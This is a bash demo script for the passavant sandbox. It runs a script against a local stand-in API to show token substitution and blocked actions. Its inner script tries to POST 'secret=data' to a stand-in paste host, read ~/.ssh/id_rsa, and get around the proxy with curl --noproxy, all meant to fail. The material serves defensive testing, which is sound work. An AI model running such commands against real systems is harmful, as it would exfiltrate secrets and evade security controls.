#!/usr/bin/env bash
# examples/demo.sh - `make demo`: passavant run in front of a stand-in API.
#
# Starts the project's own HTTPS test server (pv-upstream, recording every
# request it receives) on 127.0.0.1 as the "API", makes a scratch HOME with
# a planted ~/.ssh/id_rsa, and runs a small script inside
# `passavant run -p examples/demo.yaml` that tries, in plain words:
#   1. what token it sees (a sentinel, not the real one),
#   2. a request with that token to the API (succeeds: the API got the real one),
#   3. a form POST to a host the policy does not list (403),
#   4. reading ~/.ssh/id_rsa (fails),
#   5. a program that ignores the proxy variables: a name the policy does
#      not list gets NXDOMAIN, an IP address is intercepted and refused.
# The demo token is fake; nothing here leaves this machine.
#
# Environment: PASSAVANT_BIN, PASSAVANT_TOOLS (set by `make demo`).
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
PASSAVANT_BIN=${PASSAVANT_BIN:-$here/../passavant}
PASSAVANT_TOOLS=${PASSAVANT_TOOLS:-$here/../build/plain/tools}
for f in "$PASSAVANT_BIN" "$PASSAVANT_TOOLS/pv-upstream" "$PASSAVANT_TOOLS/pv-certs"; do
	if [ ! -x "$f" ]; then
		echo "demo: $f is missing; run 'make demo' (it builds everything first)" >&2
		exit 1
	fi
done

# Under /var/tmp, not /tmp: inside the sandbox /tmp is a private tmpfs.
demo=$(mktemp -d /var/tmp/passavant-demo.XXXXXX)
up_pid=
cleanup() {
	if [ -n "$up_pid" ]; then
		kill "$up_pid" 2>/dev/null || true
		wait "$up_pid" 2>/dev/null || true
	fi
	rm -rf "$demo"
}
trap cleanup EXIT
chmod 755 "$demo"

# --- the stand-in API: pv-upstream over HTTPS with a generated test CA
mkdir -p "$demo/certs" "$demo/home/.ssh" "$demo/work"
"$PASSAVANT_TOOLS/pv-certs" "$demo/certs" 127.0.0.1 localhost >/dev/null
"$PASSAVANT_TOOLS/pv-upstream" --listen 127.0.0.1:0 --tls "$demo/certs" \
	--record "$demo/api-received.txt" >"$demo/api.out" 2>"$demo/api.err" &
up_pid=$!
api=
for _ in $(seq 100); do
	api=$(sed -n 's/^listening on //p' "$demo/api.out" | head -n 1)
	[ -n "$api" ] && break
	kill -0 "$up_pid" 2>/dev/null || break
	sleep 0.05
done
if [ -z "$api" ]; then
	echo "demo: the stand-in API did not start:" >&2
	cat "$demo/api.err" >&2
	exit 1
fi

# --- the policy: examples/demo.yaml plus the stand-in API's test CA
sed "s|extraCaCertPaths: \[\]|extraCaCertPaths: [\"$demo/certs/ca.pem\"]|" \
	"$here/demo.yaml" >"$demo/demo.yaml"

# --- a HOME with a private key that must stay private
printf -- '-----BEGIN DEMO PRIVATE KEY-----\nthis line must never be shown\n' >"$demo/home/.ssh/id_rsa"
chmod 600 "$demo/home/.ssh/id_rsa"

# --- the fake token, known only to this shell and to the API's record
token="sk-demo-$(head -c 64 /dev/urandom | od -An -tx1 | tr -d ' \n' | head -c 32)"

# --- what runs inside the sandbox
cat >"$demo/inside.sh" <<INSIDE
api=https://$api
# The stand-in API is on loopback, which NO_PROXY exempts (it would mean
# the sandbox's own loopback); a real API is not, so real tools need no
# such line.
export NO_PROXY= no_proxy=

if [ -t 1 ]; then b='\033[1m' n='\033[0m'; else b= n=; fi
say() { printf "\n\${b}%s\${n}\n" "\$*"; }

say "1. The token this command sees:"
echo "   DEMO_API_TOKEN=\$DEMO_API_TOKEN"
echo "   (same shape as the real one, but a sentinel, derived from a key only passavant reads)"

say "2. A request to the API with that token:"
if out=\$(curl -sS --max-time 20 -H "Authorization: Bearer \$DEMO_API_TOKEN" "\$api/echo"); then
	echo "   succeeded; the API echoed what it received, and passavant turned the"
	echo "   real token back into the sentinel on the way in:"
	printf '%s\n' "\$out" | grep -i '^authorization' | sed 's/^/     /'
else
	echo "   FAILED"
fi

say "3. A form POST to a host the policy does not list (paste.example.net):"
code=\$(curl -s --max-time 20 -o /dev/null -w '%{http_connect}' -X POST -d 'secret=data' \
	https://paste.example.net/upload) || true
echo "   refused: the proxy answered \$code (blocked-by-sandbox-runtime) and said why on"
echo "   stderr (the 'passavant: blocked ...' line above)"

say "4. Reading ~/.ssh/id_rsa:"
if [ -s ~/.ssh/id_rsa ] && cat ~/.ssh/id_rsa >/dev/null 2>&1; then
	echo "   READABLE (this should not happen)"
else
	echo "   cannot be read: the credential stores are hidden (ls ~/.ssh: \$(ls -A ~/.ssh | wc -l) entries)"
fi

say "5. Around the proxy: a program that ignores the proxy variables:"
if curl -sS --noproxy '*' --max-time 10 -o /dev/null https://paste.example.net/upload 2>/dev/null; then
	echo "   CONNECTED to paste.example.net (this should not happen)"
else
	echo "   paste.example.net does not even resolve: the sandbox's only resolver is"
	echo "   passavant's, which answers NXDOMAIN for names the policy does not list"
	echo "   (the 'blocked DNS lookup' line above) and never looks them up"
fi
if curl -sS --noproxy '*' --max-time 10 -o /dev/null https://192.0.2.10/ 2>/dev/null; then
	echo "   CONNECTED to 192.0.2.10 (this should not happen)"
else
	echo "   and a connection to an IP address is redirected to the proxy, which"
	echo "   decides it like any other and refused it (the 'refused' line above)"
fi
INSIDE

cat <<TXT

passavant demo
==============
The stand-in API is https://$api (the project's own test server).
The real token is in this shell only. Now running:

  cd $demo/work && HOME=$demo/home DEMO_API_TOKEN=sk-demo-... \\
    passavant run -v -p examples/demo.yaml -- sh inside.sh

(demo.yaml with the stand-in API's test CA filled in)
TXT

rc=0
(cd "$demo/work" && HOME="$demo/home" DEMO_API_TOKEN="$token" \
	"$PASSAVANT_BIN" run -v -p "$demo/demo.yaml" -- sh "$demo/inside.sh") || rc=$?

if [ -t 1 ]; then b='\033[1m' n='\033[0m'; else b= n=; fi
printf "\n${b}%s${n}\n" "Afterwards, outside the sandbox:"
if grep -qF "$token" "$demo/api-received.txt" 2>/dev/null; then
	echo "   the API received the real token: yes"
	got=yes
else
	echo "   the API received the real token: NO"
	got=no
fi
echo "   passavant run exited with the command's status: $rc"
if [ "$rc" != 0 ] || [ "$got" != yes ]; then
	echo "demo: something did not work as described above" >&2
	exit 1
fi
